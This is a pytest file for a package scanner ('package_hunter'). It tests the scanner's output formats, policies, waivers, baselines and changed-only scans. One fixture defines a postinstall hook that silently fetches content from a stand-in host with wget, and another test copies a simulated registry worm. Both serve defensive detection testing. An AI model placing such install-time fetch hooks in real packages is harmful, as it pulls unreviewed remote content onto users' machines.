"""What a user may ask of `scan` beside the scan itself: forms, policies, baselines, what changed."""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.support.hunter import ROOT, hunt, npm_project, project_with
from tests.support.requires import needs_btf, needs_registry, needs_runc

FETCHES = {"postinstall": "wget -qO- --tries=1 --timeout=5 https://paste.example/raw/x || true"}
WAIVER = '[[waiver]]\nkind = "*"\nreason = "known"\nauthor = "ada@corp.example"\nexpires = 2099-01-31\n'


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    needs_runc()
    needs_btf()


@pytest.fixture(scope="module")
def fetching(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with a dependency that downloads something at install."""
    return project_with(tmp_path_factory.mktemp("fetching") / "app", helper=FETCHES)


def test_several_forms_of_one_scan(fetching: Path, tmp_path: Path) -> None:
    files = {form: tmp_path / f"report.{form}" for form in ("json", "sarif", "gitlab", "html")}
    pairs = [word for form, path in files.items() for word in ("--format", form, "-o", str(path))]
    done = hunt("scan", fetching, *pairs, "--format", "text", "-o", "-", "--explain", "--fail-on", "review")
    assert done.returncode == 1, done.stderr
    assert "SUSPICIOUS" in done.stdout
    assert "What would have lowered it" in done.stdout
    report = json.loads(files["json"].read_text())
    schema = ROOT / "src/package_hunter/report/schema/report-v1.json"
    jsonschema.Draft202012Validator(json.loads(schema.read_text())).validate(report)
    assert report["verdict"] == "suspicious"
    place = json.loads(files["sarif"].read_text())["runs"][0]["results"][0]["locations"][0]
    assert place["physicalLocation"]["artifactLocation"]["uri"] == "package.json"
    named = json.loads(files["gitlab"].read_text())["vulnerabilities"][0]["location"]["dependency"]
    assert named["package"]["name"] == "helper"
    assert "helper 1.0.0" in files["html"].read_text()


def test_exit_zero_and_wrong_pairs(fetching: Path, tmp_path: Path) -> None:
    done = hunt("scan", fetching, "-q", "--fail-on", "review", "--exit-zero", "-o", tmp_path / "r.txt")
    assert (done.returncode, done.stdout) == (0, "")
    assert "SUSPICIOUS" in (tmp_path / "r.txt").read_text()
    done = hunt("scan", fetching, "--format", "json", "--format", "text", "-o", tmp_path / "x")
    assert done.returncode == 2
    assert "one -o for each --format" in done.stderr


def test_policies(fetching: Path, tmp_path: Path) -> None:
    strict = tmp_path / "policy.toml"
    strict.write_text('[verdicts]\nsuspicious = "block"\n')
    assert hunt("scan", fetching, "-q", "--policy", strict).returncode == 1
    (fetching / "package-hunter.toml").write_text(WAIVER)
    try:
        own = hunt("scan", fetching, "-q", "--fail-on", "review")
    finally:
        (fetching / "package-hunter.toml").unlink()
    assert own.returncode == 0, own.stdout
    assert "waived by the project's own package-hunter.toml" in " ".join(own.stdout.split())
    wrong = tmp_path / "wrong.toml"
    wrong.write_text("[[waiver]]\n")
    done = hunt("scan", fetching, "--policy", wrong)
    assert done.returncode == 2
    assert "Unpacking" not in done.stderr, "a mistake in a file costs nobody a scan"


def test_the_projects_own_file_cannot_waive_proof(tmp_path: Path) -> None:
    target = tmp_path / "git-worm"
    shutil.copytree(ROOT / "simulations/registry-worm", target)
    (target / "package-hunter.toml").write_text(WAIVER)
    done = hunt("scan", target, "-q")
    assert done.returncode == 1, done.stdout
    assert "MALICIOUS" in done.stdout


def test_a_baseline(fetching: Path, tmp_path: Path) -> None:
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    assert hunt("scan", fetching, "-q", "--format", "json", "-o", old).returncode == 0
    same = hunt("scan", fetching, "-q", "--baseline", old, "--fail-on", "review")
    assert same.returncode == 0, same.stdout
    assert "No new behaviour was seen" in same.stdout
    worse = {"postinstall": FETCHES["postinstall"].replace("paste.example", "other.example")}
    app = project_with(tmp_path / "app", helper=worse)
    pair = ("--format", "json", "-o", new)
    assert hunt("scan", app, "-q", "--baseline", old, "--fail-on", "review", *pair).returncode == 1
    told: dict[str, Any] = json.loads(new.read_text())["baseline"]
    assert "other.example" in told["new_hosts"]
    assert told["new_findings"]


def _locked(folder: Path, name: str, version: str) -> Path:
    """A project with one registry package in its lock file, beside one that stays."""
    import subprocess

    wanted = {name: version, "left-pad": "1.3.0"}
    npm_project(folder, "app", dependencies=wanted)
    command = ["npm", "install", "--package-lock-only", "--ignore-scripts", "--no-audit"]
    subprocess.run(command, cwd=folder, check=True, capture_output=True, timeout=120)
    return folder


def test_only_what_changed(tmp_path: Path) -> None:
    needs_registry()
    old = _locked(tmp_path / "old" / "app", "is-number", "6.0.0")
    new = _locked(tmp_path / "new" / "app", "is-number", "7.0.0")
    done = hunt("scan", new, "-q", "--changed-only", old / "package-lock.json", "--format", "json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert [p["purl"] for p in report["packages"]] == ["pkg:npm/is-number@7.0.0"]
    assert "Only what changed was scanned: is-number 7.0.0." in report["coverage"]["notes"][0]
    done = hunt("scan", new, "-q", "--changed-only", new)
    assert done.returncode == 0
    assert "No package's version changed, so nothing was run." in done.stdout


def test_what_cannot_be_compared(tmp_path: Path) -> None:
    project = npm_project(tmp_path / "app", "app")
    for target, base in ((project, project), ("pkg:npm/left-pad", project), (project, tmp_path / "none")):
        done = hunt("scan", target, "--changed-only", base)
        assert done.returncode == 2, done.stderr
        assert "lock file" in done.stderr or "folder" in done.stderr
